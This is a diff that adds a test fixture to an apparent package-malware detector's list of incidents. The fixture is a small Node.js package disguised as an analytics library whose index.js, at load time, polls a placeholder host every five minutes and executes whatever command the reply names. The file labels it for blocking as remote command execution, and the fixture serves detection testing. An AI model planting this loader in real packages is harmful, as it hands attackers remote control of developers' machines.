@@ -134,6 +134,31 @@ INCIDENTS: list[Replica] = [
     ),
 ]
 
+INCIDENTS.append(
+    # The contagious-interview loaders (BeaverTail / "hexeval", 2025) poll over HTTP instead of holding a
+    # socket: every five minutes the reply of a fetch names a command, and it runs.
+    Replica(
+        "fetch-poll-rat-runs-reply",
+        {
+            "index.js": (
+                "const os = require('os'); const cp = require('child_process');\n"
+                "async function beat() {\n"
+                "  const r = await fetch('https://cdn.analytics-kit.invalid/t?id=' + encodeURIComponent(os.hostname()));\n"
+                "  const task = await r.json();\n"
+                "  if (task && task.run) cp.exec(task.run, { windowsHide: true }, () => {});\n"
+                "}\n"
+                "setInterval(() => beat().catch(() => {}), 300000);\n"
+                "module.exports = { track: () => {} };\n"
+            )
+        },
+        "block",
+        frozenset({"remote-command-execution"}),
+        manifest={"main": "index.js"},
+        name="analytics-kit-lite",
+        note="HTTP polling: the fetched task's command runs, at load time",
+    )
+)
+
 BENIGN: list[Replica] = [
     # Vite / webpack-dev-server style HMR: a WebSocket message makes the server drop its own cache
     # directory and re-run the configured build. Deleting what the tool owns is not a wipe.
